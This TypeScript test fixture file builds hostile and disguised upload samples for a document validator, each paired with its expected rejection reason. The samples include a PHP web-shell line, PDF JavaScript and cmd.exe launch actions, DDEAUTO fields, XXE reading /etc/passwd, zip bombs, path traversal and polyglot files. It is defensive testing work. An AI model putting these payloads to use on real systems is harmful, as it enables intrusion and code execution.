import { deflateRawSync, deflateSync } from 'node:zlib'
import { maxBestand, type BestandFout } from '#app/domain/document/soorten.ts'
import {
  chunk,
  contentTypes,
  docx,
  exifMetPlaats,
  ihdr,
  jpeg,
  pdf,
  png,
  pngBegin,
  segment,
  stroom,
  verwijzingen,
  wordDelen,
  wordTekst,
} from './eerlijk.ts'
import { zip } from './zip.ts'

/** The text every scanner knows, put together here so that this file is not taken for one. */
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE', '!$H+H*'].join('')
const html = '<!doctype html><script>alert(1)</script>'
const tekst = (woorden: string) => Buffer.from(woorden, 'latin1')
const nullen = (mb: number) => Buffer.alloc(mb * 1024 * 1024)
const script = (soort: string) => `<< /S /${soort} /JS (app.alert(1)) >>`
const inLijst = (object: string) => stroom(`9 0 ${object}`, '/Type /ObjStm /N 1 /First 4')
const eersteHelft = <T extends Buffer>(bytes: T) => bytes.subarray(0, bytes.length - 30)

/** Files made to do harm or to look like what they are not, each with what has to be said about it (quality S8). */
export const vijandig: readonly (readonly [string, () => Buffer, BestandFout])[] = [
  // not one of the four
  ['niets', () => Buffer.alloc(0), 'leeg'],
  ['een byte te veel', () => pdf([], { achter: ' '.repeat(maxBestand) }).subarray(0, maxBestand + 1), 'te-groot'],
  ['EICAR als tekst', () => tekst(eicar), 'ander-type'],
  ['een pagina', () => tekst(html), 'ander-type'],
  ['een pagina met een BOM', () => tekst(`\xef\xbb\xbf${html}`), 'ander-type'],
  [
    'een SVG met een script',
    () => tekst('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    'ander-type',
  ],
  ['een GIF', () => tekst('GIF89a\x01\0\x01\0\0\0\0;'), 'ander-type'],
  [
    'een GIFAR',
    () => Buffer.concat([tekst('GIF89a\x01\0\x01\0\0\0\0;'), zip([{ naam: 'A.class', inhoud: 'x' }])]),
    'ander-type',
  ],
  ['een programma van Windows', () => tekst('MZ\x90\0\x03\0'), 'ander-type'],
  ['een programma van Linux', () => tekst('\x7fELF\x02\x01'), 'ander-type'],
  ['een lijst met formules', () => tekst('=HYPERLINK("http://x","klik");1'), 'ander-type'],
  ['een oude Word met macro’s', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'ander-type'],
  ['een RTF', () => tekst('{\\rtf1{\\object\\objdata 01}}'), 'ander-type'],
  ['een HEIC', () => tekst('\0\0\0\x18ftypheic\0\0\0\0'), 'ander-type'],
  ['spaties voor een PDF', () => pdf([], { voor: '   ' }), 'ander-type'],
  ['een pagina voor een PDF', () => pdf([], { voor: html }), 'ander-type'],
  ['een GIF voor een PDF', () => pdf([], { voor: 'GIF89a' }), 'ander-type'],
  ['een gzip', () => Buffer.from('1f8b0800000000000003', 'hex'), 'ander-type'],

  // JPEG
  ['een halve JPEG', () => eersteHelft(jpeg()), 'beschadigd'],
  ['alleen het begin van een JPEG', () => Buffer.from('ffd8ffe0', 'hex'), 'beschadigd'],
  ['begin en eind van een JPEG zonder beeld', () => Buffer.from('ffd8ffd9', 'hex'), 'beschadigd'],
  ['een pagina die JPEG heet', () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), tekst(html)]), 'verdacht'],
  ['een JPEG met een pagina als opmerking', () => jpeg([segment(0xfe, html)]), 'verdacht'],
  ['een JPEG met een pagina erachter', () => jpeg([], html), 'verdacht'],
  ['een JPEG met een zip erachter', () => jpeg([], zip([{ naam: 'a', inhoud: 'x' }])), 'verdacht'],
  ['een JPEG met een PDF erachter', () => jpeg([], pdf()), 'verdacht'],
  ['een JPEG met PHP erachter', () => jpeg([], '<?php system($_GET[0]);'), 'verdacht'],
  [
    'een zip in het kleurprofiel van een JPEG',
    () => jpeg([segment(0xe2, Buffer.concat([tekst('ICC_PROFILE\0\x01\x01'), zip([{ naam: 'a', inhoud: 'x' }])]))]),
    'verdacht',
  ],
  ['EICAR in een JPEG', () => jpeg([segment(0xe2, `ICC_PROFILE\0\x01\x01${eicar}`)]), 'verdacht'],
  [
    'een JPEG met een te lang deel',
    () => Buffer.concat([Buffer.from('ffd8ffe1ffff', 'hex'), Buffer.alloc(40)]),
    'beschadigd',
  ],
  ['een JPEG van 65.000 bij 65.000', () => metMaat(jpeg(), 65_000, 65_000), 'te-zwaar'],
  ['een JPEG van nul hoog', () => metMaat(jpeg(), 8, 0), 'beschadigd'],

  // PNG
  [
    'een PNG van 65.000 bij 65.000',
    () => Buffer.concat([pngBegin, ihdr(65_000, 65_000), chunk('IDAT', deflateSync(nullen(1))), chunk('IEND')]),
    'te-zwaar',
  ],
  ['een PNG die tot veel meer uitpakt dan zijn maat', () => png([], '', nullen(64)), 'te-zwaar'],
  ['een PNG die tot minder uitpakt dan zijn maat', () => png([], '', Buffer.alloc(4)), 'beschadigd'],
  ['een halve PNG', () => eersteHelft(png()), 'beschadigd'],
  ['een PNG zonder beeld', () => Buffer.concat([pngBegin, ihdr(4, 4), chunk('IEND')]), 'beschadigd'],
  ['een PNG zonder kop', () => Buffer.concat([pngBegin, chunk('IEND')]), 'beschadigd'],
  ['een PNG met een verkeerde controlesom', () => png([chunk('sRGB', '\0', { stuk: true })]), 'beschadigd'],
  ['een PNG met twee koppen', () => png([ihdr(4, 4)]), 'beschadigd'],
  ['een PNG met een onbekend nodig deel', () => png([chunk('EVIL', 'x')]), 'beschadigd'],
  ['een PNG met een pagina erachter', () => png([], html), 'verdacht'],
  ['een PNG met een zip erachter', () => png([], zip([{ naam: 'a', inhoud: 'x' }])), 'verdacht'],
  ['een PNG met een pagina vooraan', () => png([chunk('tEXt', `Comment\0${html}`)]), 'verdacht'],

  // PDF
  ['een halve PDF', () => eersteHelft(pdf()), 'beschadigd'],
  ['alleen het begin van een PDF', () => tekst('%PDF-1.7\n'), 'beschadigd'],
  ['een pagina die PDF heet', () => tekst(`%PDF-1.7\n${html}`), 'verdacht'],
  [
    'een PDF met een zip erachter',
    () => pdf([], { achter: zip([{ naam: 'a', inhoud: 'x' }]).toString('latin1') }),
    'verdacht',
  ],
  [
    'een PDF met een zip erachter die op %%EOF eindigt',
    () =>
      pdf([], { achter: zip([{ naam: 'a', inhoud: 'x' }], { opmerking: 'startxref\n1\n%%EOF\n' }).toString('latin1') }),
    'verdacht',
  ],
  ['een PDF met een script', () => pdf([script('JavaScript')], { wortel: '/OpenAction 4 0 R' }), 'actief'],
  ['een PDF met een script in een andere spelling', () => pdf([script('J#61vaScript')]), 'actief'],
  ['een PDF met een script in een ingepakte lijst', () => pdf([inLijst(script('JavaScript'))]), 'actief'],
  [
    'een PDF met een script in een lijst die niet zo heet',
    () => pdf([stroom(`9 0 ${script('JavaScript')}`, '/N 1 /First 4')]),
    'actief',
  ],
  [
    'een PDF met een script in een los deel',
    () => pdf([`<< /Length 99999 >>\nstream\n${script('JavaScript')}\nendstream`]),
    'actief',
  ],
  ['een PDF die een programma start', () => pdf(['<< /S /Launch /F (cmd.exe) >>']), 'actief'],
  [
    'een PDF met een bestand erin',
    () => pdf(['<< /Type /EmbeddedFile >>'], { wortel: '/Names << /EmbeddedFiles 4 0 R >>' }),
    'actief',
  ],
  ['een PDF met een XFA-formulier', () => pdf([], { wortel: '/AcroForm << /XFA [] >>' }), 'actief'],
  ['een PDF die iets verstuurt', () => pdf(['<< /S /SubmitForm /F (http://x) >>']), 'actief'],
  [
    'een PDF die bij openen een adres bezoekt',
    () => pdf(['<< /S /URI /URI (http://x) >>'], { wortel: '/OpenAction 4 0 R' }),
    'actief',
  ],
  [
    'een PDF die bij openen iets doet, in zichzelf',
    () => pdf([], { wortel: '/OpenAction << /S /URI /URI (http://x) >>' }),
    'actief',
  ],
  ['een PDF die bij openen iets doet dat niet te vinden is', () => pdf([], { wortel: '/OpenAction 77 0 R' }), 'actief'],
  [
    'een PDF die bij openen iets doet in een andere spelling',
    () => pdf([], { wortel: '/Open#41ction << /S /URI /URI (http://x) >>' }),
    'actief',
  ],
  ['een PDF met een film', () => pdf(['<< /Subtype /RichMedia >>']), 'actief'],
  ['een PDF met een wachtwoord', () => pdf([], { trailer: '/Encrypt 4 0 R' }), 'wachtwoord'],
  [
    'een PDF met een lijst die tot 60 MB uitpakt',
    () =>
      pdf([stroom(Buffer.concat([tekst('9 0 '), Buffer.alloc(60 * 1024 * 1024, 32)]), '/Type /ObjStm /N 1 /First 4')]),
    'te-zwaar',
  ],
  [
    'een PDF met een lijst in een andere pakking',
    () => pdf([`<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\n\x80\x0b\x60\x50\nendstream`]),
    'verdacht',
  ],
  ['EICAR in een PDF', () => pdf([`(${eicar})`]), 'verdacht'],

  // Word
  ['een gewone zip', () => zip([{ naam: 'a.txt', inhoud: 'x' }]), 'ander-type'],
  ['een Excel', () => docx({ 'word/document.xml': null, 'xl/workbook.xml': '<x/>' }), 'ander-type'],
  ['een docx zonder lijst van soorten', () => docx({ '[Content_Types].xml': null }), 'ander-type'],
  ['een docx die volgens zijn lijst iets anders is', () => docx({ '[Content_Types].xml': '<Types/>' }), 'ander-type'],
  ['een halve docx', () => eersteHelft(docx()), 'beschadigd'],
  ['een docx met iets erachter', () => Buffer.concat([docx(), tekst(html)]), 'verdacht'],
  ['een docx met iets ertussen', () => zip(wordDelen(), { tussen: html }), 'verdacht'],
  ['een docx met een opmerking', () => zip(wordDelen(), { opmerking: html }), 'verdacht'],
  ['een docx met macro’s', () => docx({ 'word/vbaProject.bin': 'x' }), 'actief'],
  [
    'een docm',
    () =>
      docx({
        '[Content_Types].xml': contentTypes
          .replace('wordprocessingml.document.main', 'x')
          .replace('openxmlformats-officedocument.x', 'ms-word.document.macroEnabled'),
      }),
    'actief',
  ],
  ['een docx met een ActiveX', () => docx({ 'word/activeX/activeX1.xml': '<x/>' }), 'actief'],
  ['een docx met een bestand erin', () => docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'actief'],
  ['een docx met een pagina erin', () => docx({ 'word/afchunk.htm': html }), 'actief'],
  ['een docx met een programma erin', () => docx({ 'word/media/image1.exe': 'MZ' }), 'actief'],
  [
    'een docx met een sjabloon van elders',
    () =>
      docx({
        'word/_rels/settings.xml.rels': verwijzingen('attachedTemplate', 'http://x/t.dotm', ' TargetMode="External"'),
      }),
    'actief',
  ],
  [
    'een docx met een plaatje van elders',
    () => docx({ 'word/_rels/document.xml.rels': verwijzingen('image', 'http://x/a.png', ' TargetMode="External"') }),
    'actief',
  ],
  [
    'een docx met een plaatje van een schijf op het net',
    () => docx({ 'word/_rels/document.xml.rels': verwijzingen('image', '\\\\x\\a.png', " TargetMode = 'external' ") }),
    'actief',
  ],
  [
    'een docx met een link die een programma start',
    () =>
      docx({ 'word/_rels/document.xml.rels': verwijzingen('hyperlink', 'file:///c:/x.exe', ' TargetMode="External"') }),
    'actief',
  ],
  [
    'een docx met een verborgen verwijzing naar buiten',
    () => docx({ 'word/_rels/document.xml.rels': verwijzingen('image', 'http://x/a', ' TargetMode="&#69;xternal"') }),
    'actief',
  ],
  [
    'een docx met een entiteit van buiten',
    () =>
      docx({
        'word/document.xml': wordTekst('<w:t>&e;</w:t>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
      }),
    'actief',
  ],
  [
    'een docx met entiteiten die zich vermenigvuldigen',
    () => docx({ 'word/styles.xml': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>' }),
    'actief',
  ],
  [
    'een docx met een entiteit in UTF-16',
    () =>
      docx({
        'word/styles.xml': Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>', 'utf16le'),
      }),
    'actief',
  ],
  [
    'een docx in een codering van vroeger',
    () => docx({ 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x>' }),
    'verdacht',
  ],
  [
    'een docx met DDE',
    () => docx({ 'word/document.xml': wordTekst('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>') }),
    'actief',
  ],
  [
    'een docx met DDE in stukken',
    () =>
      docx({
        'word/document.xml': wordTekst(
          '<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText>',
        ),
      }),
    'actief',
  ],
  ['een docx met een wachtwoord', () => zip(wordDelen().map((deel) => ({ ...deel, vlaggen: 1 }))), 'wachtwoord'],
  [
    'een zipbom van 42 KB',
    () => docx({}, [{ naam: 'word/media/a.png', ingepakt: deflateRawSync(nullen(42)), grootte: 2 ** 32 - 1 }]),
    'te-zwaar',
  ],
  [
    'een zipbom die zijn grootte verzwijgt',
    () => docx({}, [{ naam: 'word/media/a.png', ingepakt: deflateRawSync(nullen(20)), grootte: 10 }]),
    'beschadigd',
  ],
  [
    'een docx met 3000 bestanden',
    () =>
      docx(
        {},
        Array.from({ length: 3000 }, (_, nr) => ({ naam: `word/a${nr}.xml`, inhoud: '<x/>' })),
      ),
    'te-zwaar',
  ],
  [
    'een docx met een koppeling naar elders',
    () => docx({}, [{ naam: 'word/media/a.png', inhoud: '/etc/passwd', soort: 0o120777 }]),
    'verdacht',
  ],
  ['een docx die uit zijn map klimt', () => docx({}, [{ naam: '../../etc/passwd.xml', inhoud: 'x' }]), 'verdacht'],
  ['een docx met een volledig pad', () => docx({}, [{ naam: '/etc/passwd.xml', inhoud: 'x' }]), 'verdacht'],
  ['een docx met een pad van Windows', () => docx({}, [{ naam: 'c:\\x.xml', inhoud: 'x' }]), 'verdacht'],
  ['een docx met twee keer dezelfde naam', () => docx({}, [{ naam: 'word/Document.xml', inhoud: '<x/>' }]), 'verdacht'],
  [
    'een docx waarvan de twee lijsten verschillen',
    () => docx({}, [{ naam: 'word/a.xml', lokaleNaam: 'word/b.xml', inhoud: '<x/>' }]),
    'verdacht',
  ],
  [
    'een docx met een onbekende pakking',
    () => docx({}, [{ naam: 'word/a.xml', inhoud: '<x/>', pakking: 99 }]),
    'verdacht',
  ],
  [
    'een docx met een omgekeerde naam',
    () => docx({}, [{ naam: 'word/\u202egnp.exe.xml', inhoud: '<x/>' }]),
    'verdacht',
  ],
  ['EICAR in een docx', () => docx({ 'word/media/a.png': eicar }), 'verdacht'],
]

/** The same JPEG with another size in its header. */
function metMaat(bytes: Buffer, breed: number, hoog: number): Buffer {
  const uit = Buffer.from(bytes)
  const plek = uit.indexOf(Buffer.from([0xff, 0xc0]))
  uit.writeUInt16BE(hoog, plek + 5)
  uit.writeUInt16BE(breed, plek + 7)
  return uit
}

/** A phone picture that says where it was taken, in every place where such a thing can stand. */
export const metPlaats = () =>
  jpeg(
    [
      exifMetPlaats(),
      segment(0xe1, 'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>PLAATS-DOETINCHEM</x:xmpmeta>'),
      segment(0xed, 'Photoshop 3.0\0PLAATS-DOETINCHEM'),
      segment(0xfe, 'PLAATS-DOETINCHEM'),
      segment(0xe2, 'MPF\0PLAATS-DOETINCHEM'),
    ],
    Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), tekst('PLAATS-DOETINCHEM')]),
  )
